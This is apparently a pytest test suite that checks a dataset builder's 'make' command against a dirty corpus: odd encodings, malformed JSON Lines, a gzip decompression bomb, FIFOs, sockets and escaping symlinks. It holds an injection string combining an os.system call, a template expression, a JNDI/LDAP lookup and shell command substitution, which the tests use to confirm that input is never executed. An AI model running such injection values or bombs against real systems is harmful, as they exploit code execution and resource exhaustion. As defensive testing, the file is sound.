"""A dirty crawl through the real `builder make`: every input accounted for, no crash.

The corpus is written by the tests (no committed binaries): good dumps, decodable
variants of one of them, and more than 25 kinds of bad or odd input. The build runs as
a user would run it, in a subprocess, so a traceback or a hang would show.
"""

from __future__ import annotations

import codecs
import gzip
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import zlib
from collections import Counter
from dataclasses import asdict, dataclass
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from builder.release.store import version_paths
from tests.helpers import ROOT

BUILDER = str(Path(sys.executable).with_name("builder"))
MAX_BYTES = 200_000  # small, so "too large" needs only a small file

GOOD = """
Café owners welcome the harbour’s new night market
The
regional council said on Monday that the night market would open in June.
Stall holders said the plan was “long overdue”.
Hashtags

Try Our AI Features
Explore what Daily8 AI can do for you:
Comments
No comments yet...
Related Articles


Harbour Times
3 hours ago
- Harbour Times
Port strike ends after two weeks
The dock workers' union voted on Sunday to accept the offer.


Coastal Post
a day ago
- Coastal Post
Ferry operator adds night sailings
The operator said demand had grown – especially in summer.
"""

#: Decodable variants of GOOD: each must give exactly GOOD's articles.
VARIANTS: dict[str, bytes] = {
    "variant_bom.txt": codecs.BOM_UTF8 + GOOD.encode(),
    "variant_utf16le.txt": GOOD.encode("utf-16"),  # BOM + little-endian on this machine
    "variant_utf16be.txt": codecs.BOM_UTF16_BE + GOOD.encode("utf-16-be"),
    "variant_cp1252.txt": GOOD.encode("cp1252"),
    "variant_crlf.txt": GOOD.replace("\n", "\r\n").encode(),
    "variant_cr.txt": GOOD.replace("\n", "\r").encode(),
    "variant_nul.txt": GOOD.replace("night market", "night\0 market", 1).encode(),
}

INJECTION = "__import__('os').system('touch PWNED') {{7*7}} ${jndi:ldap://x/a} $(touch PWNED)"


@dataclass(frozen=True)
class Expect:
    """What one input must become: parsed, or quarantined with a reason starting so."""

    status: str
    reason: str | None = None


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def _jsonl(*records: object) -> bytes:
    return "".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in records).encode()


def _blank_line_bomb(path: Path, inflated: int) -> None:
    """Newlines compress about 1000:1: a few KB on disk, `inflated` bytes when read."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\n" * (1 << 20)
    with path.open("wb") as fh:
        for _ in range(inflated >> 20):
            fh.write(deflate.compress(chunk))
        fh.write(deflate.flush())


def make_corpus(root: Path, outside: Path) -> dict[str, Expect]:
    """Write the dirty corpus under `root`; returns the expected row of every path."""
    expect: dict[str, Expect] = {}
    ok = Expect("parsed")

    def put(name: str, data: bytes | str, want: Expect) -> None:
        _write(root / name, data)
        expect[name] = want

    # Good dumps: the samples, and an invented one.
    expected = json.loads((ROOT / "samples" / "expected.json").read_text("utf-8"))
    for sample in sorted((ROOT / "samples" / "dumps").glob("*.txt")):
        quarantined = expected[sample.name].get("quarantined", False)
        want = Expect("quarantined", "no known layout") if quarantined else ok
        put(f"samples/{sample.name}", sample.read_bytes(), want)
    put("good.txt", GOOD, ok)
    for name, data in VARIANTS.items():
        put(name, data, ok)
    put(f"odd names/with space {INJECTION[:10]}.txt", GOOD, ok)
    put("odd names/naïve – ünïcode 日本.txt", GOOD, ok)
    put("odd names/new\nline.txt", GOOD, ok)
    put("injection.txt", GOOD.replace("Port strike ends after two weeks", INJECTION), ok)
    put("cut_mid_card.txt", GOOD[: GOOD.index("demand had")], ok)

    # Bad text inputs.
    put("01_empty.txt", b"", Expect("quarantined", "empty file"))
    put("02_blank.txt", " \n\t\n\r\n  ", Expect("quarantined", "blank"))
    rng = random.Random(5)
    png = b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(4000))
    put("03_image.txt", png, Expect("quarantined", "binary data"))
    put("04_gzip_named_txt.txt", gzip.compress(GOOD.encode(), mtime=0), Expect("quarantined"))
    high = bytes(rng.randrange(0x80, 0x100) for _ in range(3000))
    put("05_not_text.txt", high, Expect("quarantined", "not text in any supported encoding"))
    put(
        "06_too_large.txt",
        GOOD * (MAX_BYTES // len(GOOD) + 2),
        Expect("quarantined", f"too large (more than {MAX_BYTES} bytes)"),
    )
    put(
        "07_page_html.txt",
        "<!DOCTYPE html><html><body><p>hi</p></body></html>",
        Expect("quarantined", "no known layout"),
    )
    _write(root / "07_page.html", "<html></html>")  # not a dump format: skipped, no row
    _write(root / "notes" / "todo.md", "# todo")
    prose = "A long paragraph of another site's text, " * 20 + "\nand more.\n"
    put("08_other_site.txt", prose, Expect("quarantined", "no known layout"))
    put(
        "09_utf16_without_bom.txt",
        GOOD.encode("utf-16-le"),
        Expect("quarantined", "binary data"),
    )
    put("10_bad_bom.txt", codecs.BOM_UTF8 + b"\xff\xfe\xfd broken", Expect("quarantined"))
    put("11_title_100k.txt", "\n" + "T" * 100_000 + "\n" + GOOD.split("\n", 2)[2], Expect("any"))

    # JSON Lines: one row per record, good and bad.
    url = "https://www.daily8.com/en/article/" + "0" * 32
    records = [
        {"url": url, "fetched_at": "2025-07-01T09:30:00Z", "text": GOOD},  # L1 good
        '{"text": "unterminated',  # L2 not JSON
        {"url": url},  # L3 no text
        {"text": 42},  # L4 text not a string
        {"text": GOOD, "fetched_at": "yesterday"},  # L5 bad fetched_at
        {"text": GOOD, "fetched_at": "2025-07-01"},  # L6 bare date
        "[1, 2, 3]",  # L7 not an object
        '{"text": "\\ud800 lone surrogate"}',  # L8
        {"text": ""},  # L9 empty text
        "",  # L10 blank line: not a record
        {"text": GOOD, "fetched_at": "2025-07-02T10:00:00+02:00"},  # L11 good
    ]
    data = _jsonl(*records)
    data += b'{"text": "caf\xe9"}\n'  # L12 invalid UTF-8 in the record
    put("exports/mixed.jsonl", data, Expect("-"))
    del expect["exports/mixed.jsonl"]
    want_jsonl = {
        1: ok,
        2: Expect("quarantined", "record is not JSON"),
        3: Expect("quarantined", 'record has no "text"'),
        4: Expect("quarantined", '"text" is not a string'),
        5: Expect("quarantined", '"fetched_at" is not an ISO 8601 time'),
        6: Expect("quarantined", '"fetched_at" is not an ISO 8601 time'),
        7: Expect("quarantined", "record is not a JSON object"),
        8: Expect("quarantined", '"text" is not valid Unicode'),
        9: Expect("quarantined", "empty file"),
        11: ok,
        12: Expect("quarantined", "record is not JSON (invalid UTF-8"),
    }
    expect.update({f"exports/mixed.jsonl#L{n}": e for n, e in want_jsonl.items()})
    put("exports/empty.jsonl", b"", Expect("quarantined", "no records"))
    put("exports/blank.jsonl", b"\n \n\n", Expect("quarantined", "no records"))

    good_records = _jsonl(*({"text": GOOD.replace("Café", f"Café {i}")} for i in range(40)))
    whole = gzip.compress(good_records, compresslevel=1, mtime=0)
    # Near-identical records compress ~40:1, so cut near the end to land after some.
    _write(root / "exports/truncated.jsonl.gz", whole[: len(whole) - 60])
    _write(root / "exports/not_gzip.jsonl.gz", good_records)
    expect["exports/not_gzip.jsonl.gz#L1"] = Expect("quarantined", "corrupt compressed file")
    _blank_line_bomb(root / "exports/bomb.jsonl.gz", 64 << 20)
    _write(root / "exports/good.jsonl.gz", gzip.compress(good_records, mtime=0))
    expect.update({f"exports/good.jsonl.gz#L{n}": ok for n in range(1, 41)})

    # Inputs that are not files.
    os.mkfifo(root / "12_fifo.txt")
    expect["12_fifo.txt"] = Expect("quarantined", "not a regular file (fifo)")
    sock = socket.socket(socket.AF_UNIX)
    cwd = os.getcwd()
    os.chdir(root)  # AF_UNIX paths are short: bind by a relative name
    try:
        sock.bind("13_socket.txt")
    finally:
        os.chdir(cwd)
        sock.close()
    expect["13_socket.txt"] = Expect("quarantined", "not a regular file (socket)")
    (root / "14_loop.txt").symlink_to("14_loop.txt")
    expect["14_loop.txt"] = Expect("quarantined", "symlink loop")
    (root / "15_broken.txt").symlink_to("does-not-exist.txt")
    expect["15_broken.txt"] = Expect("quarantined", "broken symlink")
    _write(outside / "secret.txt", GOOD)
    (root / "16_escape.txt").symlink_to(outside / "secret.txt")
    expect["16_escape.txt"] = Expect("quarantined", "symlink points outside the input roots")
    (root / "loopdir").mkdir()
    (root / "loopdir" / "up").symlink_to(root)
    expect["loopdir/up"] = Expect("quarantined", "symlink loop")
    _write(root / "17_dir.txt" / "inner.txt", GOOD)
    expect["17_dir.txt"] = Expect("quarantined", "a directory named like a dump file")
    (root / "18_link_inside.txt").symlink_to("good.txt")  # same file twice: listed once
    _write(root / ".hidden.txt.swp", b"\0\1\2")  # hidden: not an input at all
    return expect


def run_make(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1", "COLUMNS": "200"}
    return subprocess.run(
        [BUILDER, "make", *args],
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
        cwd=cwd,
        check=False,
    )


def read_table(release: Path, name: str) -> list[dict[str, object]]:
    rows: list[dict[str, object]] = pq.read_table(version_paths(release, name)).to_pylist()
    return rows


@pytest.fixture(scope="module")
def dirty_build(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    base = tmp_path_factory.mktemp("dirty")
    root, outside, out = base / "crawl", base / "outside", base / "dataset"
    expect = make_corpus(root, outside)
    proc = run_make(
        str(root),
        "--out",
        str(out),
        "--captured-at",
        "2025-07-01T12:00:00Z",
        "--max-bytes",
        str(MAX_BYTES),
        "--json",
    )
    release = out / "versions" / "1.0.0"
    return {"proc": proc, "expect": expect, "root": root, "release": release, "out": out}


def test_dirty_crawl_builds_and_publishes_without_traceback(
    dirty_build: dict[str, object],
) -> None:
    proc = dirty_build["proc"]
    assert isinstance(proc, subprocess.CompletedProcess)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    report = json.loads(proc.stdout)
    assert report["published"] is True
    assert report["dumps"]["total"] == report["dumps"]["parsed"] + report["dumps"]["quarantined"]
    assert report["dumps"]["quarantined"] >= 25
    assert [(g["count"], g["names"]) for g in report["skipped"]] == [(2, [".html", ".md"])]
    release = dirty_build["release"]
    assert isinstance(release, Path) and (release / "manifest.json").is_file()
    assert not list(release.parent.parent.glob(".tmp-*"))


def test_every_input_and_record_has_exactly_one_dumps_row(
    dirty_build: dict[str, object],
) -> None:
    release, expect = dirty_build["release"], dirty_build["expect"]
    assert isinstance(release, Path) and isinstance(expect, dict)
    rows = read_table(release, "dumps")
    counts = Counter(str(r["path"]) for r in rows)
    assert [p for p, n in counts.items() if n > 1] == []
    paths = set(counts)
    missing = set(expect) - paths
    assert missing == set()
    assert not paths & {"07_page.html", "notes/todo.md"}  # skipped: not a dump format
    # The truncated export keeps its whole records, then one row for the break.
    cut = sorted(
        (p for p in paths if p.startswith("exports/truncated.jsonl.gz#L")),
        key=lambda p: int(p.rsplit("L", 1)[1]),
    )
    assert len(cut) >= 2
    by_path = {str(r["path"]): r for r in rows}
    assert all(by_path[p]["status"] == "parsed" for p in cut[:-1])
    assert str(by_path[cut[-1]]["reason"]).startswith("truncated compressed file")
    bomb = [p for p in paths if p.startswith("exports/bomb.jsonl.gz")]
    assert len(bomb) == 1
    assert str(by_path[bomb[0]]["reason"]).startswith("compressed stream exceeds the size limit")
    # Nothing else: every row is an expected input, a truncated/bomb row, or a sample.
    extra = paths - set(expect) - set(cut) - set(bomb)
    assert extra == set()


def test_every_quarantined_row_has_its_one_line_reason(dirty_build: dict[str, object]) -> None:
    release, expect = dirty_build["release"], dirty_build["expect"]
    assert isinstance(release, Path) and isinstance(expect, dict)
    by_path = {str(r["path"]): r for r in read_table(release, "dumps")}
    wrong = []
    for path, want in expect.items():
        row = by_path[path]
        if want.status == "any":
            continue
        reason_ok = want.reason is None or str(row["reason"]).startswith(want.reason)
        if row["status"] != want.status or not reason_ok:
            wrong.append((path, row["status"], row["reason"]))
    assert wrong == []
    for row in by_path.values():
        if row["status"] == "quarantined":
            reason = row["reason"]
            assert isinstance(reason, str) and reason.strip() and "\n" not in reason
            assert row["n_sightings"] == 0
        else:
            assert row["reason"] is None


def test_odd_names_are_recorded_exactly(dirty_build: dict[str, object]) -> None:
    release = dirty_build["release"]
    assert isinstance(release, Path)
    paths = {str(r["path"]) for r in read_table(release, "dumps")}
    assert "odd names/new\nline.txt" in paths
    assert "odd names/naïve – ünïcode 日本.txt" in paths


def _articles_by_path(release: Path) -> dict[str, list[tuple[object, ...]]]:
    dumps = {r["dump_id"]: str(r["path"]) for r in read_table(release, "dumps")}
    found: dict[str, list[tuple[object, ...]]] = {}
    for s in sorted(read_table(release, "sightings"), key=lambda s: int(str(s["position"]))):
        found.setdefault(dumps[s["dump_id"]], []).append(
            (
                s["position"],
                s["article_id"],
                s["role"],
                s["title"],
                s["source"],
                s["published_text"],
            )
        )
    return found


def test_decodable_variants_parse_to_the_same_articles(dirty_build: dict[str, object]) -> None:
    release = dirty_build["release"]
    assert isinstance(release, Path)
    found = _articles_by_path(release)
    original = found["good.txt"]
    assert len(original) == 3
    for name in VARIANTS:
        assert found.get(name) == original, name
    rows = {str(r["path"]): r for r in read_table(release, "dumps")}
    encodings = {path: r["encoding"] for path, r in rows.items()}
    assert rows["variant_nul.txt"]["replaced_bytes"] == 1  # the NUL byte, recorded
    assert rows["good.txt"]["replaced_bytes"] == 0
    assert encodings["variant_bom.txt"] == "utf-8-sig"
    assert encodings["variant_utf16le.txt"] == "utf-16"
    assert encodings["variant_cp1252.txt"] not in (None, "utf-8")


def test_input_is_data_never_code(dirty_build: dict[str, object]) -> None:
    release, root = dirty_build["release"], dirty_build["root"]
    assert isinstance(release, Path) and isinstance(root, Path)
    titles = {str(r["title"]) for r in read_table(release, "articles")}
    assert INJECTION in titles  # kept literally, not evaluated or expanded
    assert not (root / "PWNED").exists() and not Path("PWNED").exists()
    assert not (ROOT / "PWNED").exists()


def test_file_vanishing_between_listing_and_reading_is_a_row(tmp_path: Path) -> None:
    """Listing and reading are apart in time: a file deleted in between still gets a row
    (the engine reads ahead, so this drives the stages `build` chains, in order)."""
    from builder.contract import validate_row
    from builder.inputs.read import iter_dumps
    from builder.inputs.walk import find_inputs
    from builder.parse.extract import extract

    root = tmp_path / "in"
    for name in ("a.txt", "b.txt", "c.txt"):
        _write(root / name, GOOD.replace("Café", name))
    files = find_inputs([str(root)])
    (root / "c.txt").unlink()
    rows = [asdict(extract(raw).dump) for raw in iter_dumps(files)]
    assert [(r["path"], r["status"]) for r in rows] == [
        ("a.txt", "parsed"),
        ("b.txt", "parsed"),
        ("c.txt", "quarantined"),
    ]
    assert rows[2]["reason"] == "file vanished between listing and reading"
    assert all(validate_row("dumps", r) == [] for r in rows)


def test_summary_names_the_reasons(tmp_path: Path) -> None:
    root = tmp_path / "in"
    _write(root / "good.txt", GOOD)
    _write(root / "empty.txt", b"")
    _write(root / "page_html.txt", "<html><body>x</body></html>")
    _write(root / "page.html", "<html><body>x</body></html>")
    proc = run_make(str(root), "--out", str(tmp_path / "out"), "--workers", "1")
    assert proc.returncode == 0, proc.stderr
    assert "empty file" in proc.stdout
    assert "no known layout" in proc.stdout
    assert "1 file skipped: not a dump format (.html)" in proc.stdout
    assert "Traceback" not in proc.stdout + proc.stderr


def test_rebuilding_the_dirty_corpus_publishes_nothing_new(
    dirty_build: dict[str, object], tmp_path: Path
) -> None:
    """Bad inputs do not make the build unstable: same inputs, same rows."""
    root, out = dirty_build["root"], dirty_build["out"]
    assert isinstance(root, Path) and isinstance(out, Path)
    copy = tmp_path / "dataset"
    shutil.copytree(out, copy, symlinks=True)
    args = ["--captured-at", "2025-07-01T12:00:00Z", "--max-bytes", str(MAX_BYTES), "--json"]
    proc = run_make(str(root), "--out", str(copy), "--workers", "2", "--no-cache", *args)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["published"] is False
